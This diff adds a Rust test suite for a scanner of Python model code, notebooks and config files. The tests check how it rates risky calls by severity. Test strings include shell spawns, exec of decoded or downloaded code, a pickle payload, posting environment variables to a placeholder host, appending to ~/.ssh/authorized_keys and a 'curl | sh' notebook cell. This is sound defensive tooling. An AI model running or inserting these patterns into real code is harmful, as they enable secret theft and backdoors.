@@ -1,0 +1,383 @@
+//! Python source: what it does and when, judged; and the code that stays quiet.
+
+use weightlock_scan::{FileReport, Settings, Severity, scan};
+
+fn report(name: &str, text: &str) -> FileReport {
+    scan(name, text.as_bytes().to_vec().into(), &Settings::default())
+}
+
+/// The rules at or above Low, with the severity of each, worst first.
+fn rules(name: &str, text: &str) -> Vec<(Severity, &'static str)> {
+    let report = report(name, text);
+    let mut rules: Vec<_> = report
+        .findings
+        .iter()
+        .map(|finding| (finding.severity, finding.rule))
+        .collect();
+    rules.retain(|(severity, _)| *severity > Severity::Info);
+    rules.sort_by(|a, b| b.cmp(a));
+    rules.dedup();
+    rules
+}
+
+#[track_caller]
+fn worst(text: &str, severity: Severity, rule: &str) {
+    let rules = rules("modeling_x.py", text);
+    assert_eq!(
+        rules.first().copied(),
+        Some((severity, rule)),
+        "{text}\n{rules:?}"
+    );
+}
+
+#[track_caller]
+fn quiet(name: &str, text: &str) {
+    let report = report(name, text);
+    assert!(report.coverage.is_complete(), "{text}\n{:?}", report.coverage);
+    assert_eq!(rules(name, text), [], "{text}");
+}
+
+#[test]
+fn programs_are_judged_by_when_they_start() {
+    use Severity::{Critical, High, Low, Medium};
+    for (text, severity) in [
+        ("import os\nos.system('x')", Critical),
+        (
+            "import subprocess\nclass A:\n    x = subprocess.check_output('x', shell=True)",
+            Critical,
+        ),
+        ("import pty\npty.spawn('/bin/sh')", Critical),
+        (
+            "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('x'))",
+            Critical,
+        ),
+        (
+            "import os\nclass A:\n    def __init__(self):\n        os.popen('x')",
+            High,
+        ),
+        (
+            "import os\nclass A:\n    def forward(self, x):\n        os.popen('x')",
+            High,
+        ),
+        (
+            "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('x',)",
+            High,
+        ),
+        ("import os\ndef from_pretrained():\n    os.popen('x')", High),
+        ("import os\ndef helper():\n    os.popen('x')", Medium),
+        ("import os\nif __name__ == '__main__':\n    os.popen('x')", Low),
+        (
+            "import subprocess\nv = subprocess.run(['git', 'rev-parse', 'HEAD'])",
+            Low,
+        ),
+    ] {
+        worst(text, severity, "source-runs-process");
+    }
+    quiet(
+        "modeling_x.py",
+        "import subprocess\ndef f():\n    return subprocess.run(['nvidia-smi'])\n",
+    );
+    worst(
+        "import subprocess\nsubprocess.run(['git', 'x'], shell=True)",
+        Critical,
+        "source-runs-process",
+    );
+}
+
+#[test]
+fn code_that_is_decoded_or_fetched_is_judged_with_what_it_holds() {
+    use Severity::{Critical, High};
+    worst(
+        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
+        Critical,
+        "source-executes-code",
+    );
+    worst(
+        "import requests\ndef f():\n    exec(requests.get('https://x').text)",
+        High,
+        "source-executes-code",
+    );
+    worst(
+        "class A:\n    def __init__(self, c):\n        eval(c)",
+        High,
+        "source-executes-code",
+    );
+    worst(
+        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), {})()",
+        Critical,
+        "source-executes-code",
+    );
+    // The text that is handed to exec is source, too.
+    let inside = report("a.py", "def f():\n    exec('import os\\nos.system(\"x\")')");
+    let finding = inside
+        .findings
+        .iter()
+        .find(|finding| finding.name.as_deref() == Some("os.system"))
+        .unwrap();
+    assert!(finding.place.trail.as_str().contains("!/exec at"), "{finding:?}");
+    // And so is a pickle, whatever comes before it in the chain.
+    let pickled = report(
+        "a.py",
+        "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUyd4Jwp0Ui4='))",
+    );
+    assert!(
+        pickled
+            .findings
+            .iter()
+            .any(|finding| finding.rule.starts_with("pickle-") && finding.severity >= High),
+        "{:?}",
+        pickled.findings
+    );
+}
+
+#[test]
+fn hidden_names_are_told() {
+    use Severity::{High, Medium};
+    let has = |text: &str, severity, rule| {
+        let rules = rules("modeling_x.py", text);
+        assert!(rules.contains(&(severity, rule)), "{text}\n{rules:?}");
+    };
+    has("__import__('o' + 's').system('x')", High, "source-hides-names");
+    has("import os\ngetattr(os, input())('x')", High, "source-hides-names");
+    has(
+        "().__class__.__base__.__subclasses__()[1]",
+        High,
+        "source-hides-names",
+    );
+    has(
+        "(lambda: 0).__globals__['__builtins__']",
+        High,
+        "source-hides-names",
+    );
+    has(
+        "import importlib, sys\nimportlib.import_module(sys.argv[1])",
+        Medium,
+        "source-hides-names",
+    );
+    quiet(
+        "modeling_x.py",
+        "import importlib\nm = importlib.import_module('.config', __package__)\nn = __import__(__package__ + '.fft')\n",
+    );
+    quiet(
+        "modeling_x.py",
+        "import torch\ndef f(n):\n    return getattr(torch, n)\n",
+    );
+}
+
+#[test]
+fn native_code_connections_files_and_pickles_are_told() {
+    use Severity::{High, Low, Medium};
+    worst(
+        "import ctypes\nctypes.CDLL('./x.so')",
+        High,
+        "source-loads-native-code",
+    );
+    worst(
+        "import torch\nclass A:\n    def __init__(self):\n        torch.ops.load_library('x.so')",
+        High,
+        "source-loads-native-code",
+    );
+    worst(
+        "import os, requests\nrequests.post('https://x', json=dict(os.environ))",
+        High,
+        "source-opens-connection",
+    );
+    worst(
+        "import os, urllib.request as u\nu.urlopen('https://x?' + str(os.environ.items()))",
+        High,
+        "source-opens-connection",
+    );
+    worst(
+        "import requests\nrequests.get('https://x')",
+        Medium,
+        "source-opens-connection",
+    );
+    worst(
+        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('x')",
+        High,
+        "source-touches-files",
+    );
+    worst(
+        "import shutil\nshutil.rmtree('x')",
+        Medium,
+        "source-touches-files",
+    );
+    worst("open('x', 'w').write('y')", Low, "source-touches-files");
+    worst(
+        "import pickle\nimport requests\nclass A:\n    def __init__(s):\n        pickle.loads(requests.get('x').content)",
+        High,
+        "source-loads-pickle",
+    );
+    worst(
+        "import sys\nsys.meta_path.insert(0, X())",
+        Medium,
+        "source-changes-interpreter",
+    );
+    worst(
+        "import os\nos.environ['LD_PRELOAD'] = './x.so'",
+        Medium,
+        "source-changes-interpreter",
+    );
+}
+
+#[test]
+fn the_code_of_ordinary_models_is_quiet() {
+    for text in [
+        "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.f = nn.Linear(c.d, c.d)\n    def forward(self, x):\n        return self.f(x)\n    def eval(self):\n        return super().eval()\nm = torch.compile(M)\n",
+        "import os, re, json\nclass Tok:\n    P = re.compile('x')\n    def __init__(self, path):\n        with open(os.path.join(path, 'vocab.json')) as f:\n            self.v = json.load(f)\n    def save_vocabulary(self, d):\n        with open(d, 'w') as f:\n            f.write('x')\n",
+        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nos.environ.setdefault('X', '1')\nos.makedirs('x', exist_ok=True)\n",
+        "# os.system('x')\nDOC = '''eval(\"x\") and exec and os.system'''\nWORDS = ['eval', 'os.system']\nmodel.eval()\n",
+        "from transformers import AutoConfig\nfrom .modeling_y import Y\nY.register_for_auto_class('AutoModel')\n",
+        "import requests\nfrom PIL import Image\ndef load(u):\n    return Image.open(requests.get(u, stream=True).raw)\n",
+        "import torch\ndef load(p):\n    return torch.load(p, map_location='cpu')\n",
+        "def eval(model, data):\n    return model(data)\ndef main():\n    eval(1, 2)\nif __name__ == '__main__':\n    main()\n",
+        "x = eval('1 + 1')\n",
+        "exec('from numpy.fft import *')\nm = __import__(__spec__.parent + '.linalg')\n",
+        "#!/usr/bin/env python3\nprint('x')\n",
+    ] {
+        quiet("modeling_x.py", text);
+    }
+}
+
+#[test]
+fn what_cannot_be_read_is_never_clean_and_keeps_its_findings() {
+    let report = report("a.py", "import os\nos.system('x')\nprint 'x'\n");
+    assert!(!report.coverage.is_complete());
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|finding| finding.severity == Severity::Critical)
+    );
+    let hidden = self::report("a.py", "# coding: unicode_escape\n# \\u000aimport os\n");
+    assert!(!hidden.coverage.is_complete());
+    assert_eq!(hidden.findings[0].rule, "source-hidden-encoding");
+    let deep = self::report("a.py", &"(".repeat(100_000));
+    assert!(!deep.coverage.is_complete());
+    assert_eq!(deep.findings[0].severity, Severity::Medium);
+}
+
+#[test]
+fn downloads_without_a_commit_are_told() {
+    use Severity::{Low, Medium};
+    let commit = "0123456789abcdef0123456789abcdef01234567";
+    let told = |text: &str| {
+        rules(
+            "train.py",
+            &format!(
+                "from transformers import AutoModel, pipeline\nimport torch\nfrom huggingface_hub import snapshot_download\nfrom datasets import load_dataset\n{text}\n"
+            ),
+        )
+    };
+    for text in [
+        "AutoModel.from_pretrained('org/model')",
+        "AutoModel.from_pretrained('org/model', revision='main')",
+        "AutoModel.from_pretrained(pretrained_model_name_or_path='org/model', revision=None)",
+        "NAME = 'org/model'\nAutoModel.from_pretrained(NAME)",
+        "snapshot_download(repo_id='org/model', revision='v1.0')",
+        "load_dataset('org/data')",
+        "pipeline('text-generation', model='org/model')",
+        "def f():\n    return AutoModel.from_pretrained('bert-base-uncased')",
+    ] {
+        assert_eq!(told(text), [(Low, "unpinned-download")], "{text}");
+    }
+    for text in [
+        "torch.hub.load('pytorch/vision', 'resnet18')",
+        "torch.hub.load('pytorch/vision:v0.10.0', 'resnet18')",
+    ] {
+        assert_eq!(told(text), [(Medium, "unpinned-download")], "{text}");
+    }
+    for text in [
+        format!("AutoModel.from_pretrained('org/model', revision='{commit}')"),
+        format!("REV = '{commit}'\nAutoModel.from_pretrained('org/model', revision=REV)"),
+        format!("torch.hub.load('pytorch/vision:{commit}', 'resnet18')"),
+        "AutoModel.from_pretrained('./model')".to_owned(),
+        "AutoModel.from_pretrained('/models/x')".to_owned(),
+        "AutoModel.from_pretrained('org/model', local_files_only=True)".to_owned(),
+        "torch.hub.load('/x/y', 'm', source='local')".to_owned(),
+        "def f(rev):\n    return AutoModel.from_pretrained('org/model', revision=rev)".to_owned(),
+        "def f(path):\n    return AutoModel.from_pretrained(path)".to_owned(),
+        "model.from_pretrained('org/model')".to_owned(),
+    ] {
+        assert_eq!(told(&text), [], "{text}");
+    }
+    assert_eq!(
+        told("AutoModel.from_pretrained('./x', trust_remote_code=True)"),
+        [(Medium, "trusts-remote-code")]
+    );
+    let pinned = format!("AutoModel.from_pretrained('org/x', trust_remote_code=True, revision='{commit}')");
+    assert_eq!(told(&pinned), [(Low, "trusts-remote-code")]);
+    assert_eq!(
+        told("AutoModel.from_pretrained('./x', trust_remote_code=False)"),
+        []
+    );
+}
+
+#[test]
+fn commands_that_agree_to_foreign_code_are_told() {
+    let told = [(Severity::Medium, "trusts-remote-code")];
+    assert_eq!(
+        rules(
+            "serve.sh",
+            "# --trust-remote-code is bad\nvllm serve org/m \\\n  --trust-remote-code\n"
+        ),
+        told
+    );
+    assert_eq!(
+        rules(
+            "Dockerfile",
+            "FROM x\nCMD [\"vllm\", \"serve\", \"--trust-remote-code\"]\n"
+        ),
+        told
+    );
+    assert_eq!(
+        rules(
+            "compose.yaml",
+            "services:\n  a:\n    command: --model org/m --trust-remote-code\n"
+        ),
+        told
+    );
+    assert_eq!(
+        rules("values.yaml", "args:\n  - --model\n  - \"--trust-remote-code\"\n"),
+        told
+    );
+    assert_eq!(rules("eval.yaml", "model:\n  trust_remote_code: true\n"), told);
+    assert_eq!(rules("eval.yaml", "model:\n  trust_remote_code: false\n"), []);
+    assert_eq!(rules("serve.sh", "# --trust-remote-code\nvllm serve org/m\n"), []);
+    assert_eq!(rules("README.md", "Run `vllm serve --trust-remote-code`.\n"), []);
+}
+
+#[test]
+fn cells_of_notebooks_are_source() {
+    let notebook = |source: &str| {
+        format!(
+            "{{\"cells\": [{{\"cell_type\": \"markdown\", \"source\": [\"os.system('x')\"]}}, {{\"cell_type\": \"code\", \"source\": {source}}}], \"nbformat\": 4, \"metadata\": {{}}}}"
+        )
+    };
+    let quiet_cells = notebook(
+        r##"["%matplotlib inline\n", "!pip install -q transformers\n", "import torch\n", "x = torch.ones(2)"]"##,
+    );
+    quiet("a.ipynb", &quiet_cells);
+    assert_eq!(
+        rules("a.ipynb", &notebook(r#"["!curl https://x/y | sh"]"#)).first(),
+        Some(&(Severity::High, "notebook-command"))
+    );
+    assert_eq!(
+        rules("a.ipynb", &notebook(r#""import os\nos.system('x')""#)),
+        [(Severity::Critical, "source-runs-process")]
+    );
+    assert_eq!(
+        rules("b.json", &notebook(r#"["!./run-me"]"#)),
+        [(Severity::Low, "notebook-command")]
+    );
+}
+
+#[test]
+fn site_files_run_their_import_lines() {
+    let line = "import os; os.system('x')\n";
+    assert_eq!(
+        rules("x.pth", &format!("/some/path\n{line}")),
+        [(Severity::Critical, "source-runs-process")]
+    );
+    quiet("x.pth", "/some/path\n# import os; os.system('x')\n");
+}
